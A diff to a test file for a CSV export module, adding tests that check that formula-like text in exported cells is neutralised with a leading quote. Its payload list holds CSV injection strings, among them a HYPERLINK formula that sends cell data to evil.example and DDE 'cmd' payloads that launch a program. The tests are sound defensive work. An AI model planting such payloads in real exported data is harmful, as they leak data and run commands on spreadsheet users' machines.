@@ -1,6 +1,7 @@
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { parseCsv } from '$lib/datapackage/csv';
-import { toCsv } from '$lib/download/csv';
+import { toCsv, toShownCsv } from '$lib/download/csv';
 
 describe('toCsv(rows, columns)', () => {
   const columns = [
@@ -30,5 +31,74 @@ describe('toCsv(rows, columns)', () => {
       ['联合国中非共和国多层面综合稳定团', '8'],
       ['at least, "60 亿"', '6000000000'],
     ]);
+  });
+
+  it('keeps text that starts like a formula exactly as it is: the full data is not for spreadsheets', () => {
+    const rows = [
+      { name: '=1+1', value: -5 },
+      { name: '@SUM(A1)', value: null },
+    ];
+    expect(toCsv(rows, columns)).toBe('name,value\r\n=1+1,-5\r\n@SUM(A1),\r\n');
+  });
+});
+
+/** The payloads of issue 20 and OWASP's CSV Injection page, and the text a spreadsheet must show. */
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
+  "+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '=1+2";=1+2',
+  '\t=1+1',
+  '\r=1+1',
+];
+
+/** Papa Parse's reading of a CSV with a header row: the rows as objects of text. */
+function readBack(csv: string) {
+  const parsed = Papa.parse<Record<string, string>>(csv.replace(/^\ufeff/, ''), {
+    header: true,
+    delimiter: ',',
+    skipEmptyLines: true,
+  });
+  expect(parsed.errors).toEqual([]);
+  return parsed.data;
+}
+
+describe('toShownCsv(rows, columns)', () => {
+  const columns = [
+    { key: 'name', title: 'Name' },
+    { key: 'change', title: 'Change' },
+    {
+      key: 'rate',
+      title: 'Rate',
+      shown: (row: Record<string, unknown>) =>
+        row.rate === null ? '' : `${Math.round(Number(row.rate) * 100)}%`,
+    },
+  ];
+
+  it('starts a text cell that a spreadsheet would run as a formula with a quote mark, in a quoted field', () => {
+    const rows = FORMULAS.map((name) => ({ name, change: null, rate: null }));
+    const csv = toShownCsv(rows, columns);
+    expect(readBack(csv).map((row) => row.Name)).toEqual(FORMULAS.map((text) => `'${text}`));
+    // OWASP's own example of the escaped output.
+    expect(csv).toContain('"\'=1+2"";=1+2"');
+  });
+
+  it('tells numbers from text: -5 in a numeric column stays a number, the text "-5" and "+1" do not', () => {
+    const rows = [
+      { name: '-5', change: -5, rate: -0.25 },
+      { name: '+1', change: -1.5e-7, rate: 0.5 },
+      { name: 'Africa', change: 0, rate: null },
+    ];
+    expect(readBack(toShownCsv(rows, columns))).toEqual([
+      { Name: "'-5", Change: '-5', Rate: '-25%' },
+      { Name: "'+1", Change: '-1.5e-7', Rate: '50%' },
+      { Name: 'Africa', Change: '0', Rate: '' },
+    ]);
+  });
+
+  it('neutralises the text a column shows for a number when it is not a plain number', () => {
+    const shown = [{ key: 'value', title: 'Value', shown: () => '-US$6 billion' }];
+    expect(readBack(toShownCsv([{ value: -6e9 }], shown))).toEqual([{ Value: "'-US$6 billion" }]);
   });
 });
